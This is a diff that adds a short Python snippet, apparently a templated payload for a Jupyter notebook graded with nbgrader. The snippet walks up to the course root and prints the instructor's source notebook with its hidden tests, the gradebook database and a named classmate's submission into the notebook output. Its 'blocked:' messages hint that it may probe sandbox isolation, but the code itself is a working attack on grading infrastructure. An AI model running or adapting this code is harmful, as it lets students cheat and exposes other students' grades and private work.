@@ -1,0 +1,14 @@
+# 1. Reading the hidden tests: walk up to the course root and print the source notebook,
+#    the gradebook and a classmate's submission into this notebook's outputs.
+import os
+root = {ROOT!r}
+here = os.getcwd()
+while here != "/" and not os.path.exists(os.path.join(here, "nbgrader_config.py")):
+    here = os.path.dirname(here)
+for base in {here, root}:
+    for rel in ("source/toy/toy.ipynb", "gradebook.db", "submitted/{VICTIM}/toy/toy.ipynb"):
+        try:
+            with open(os.path.join(base, rel), "rb") as fh:
+                print(fh.read().decode("utf-8", "replace"))
+        except OSError as exc:
+            print("blocked:", exc)
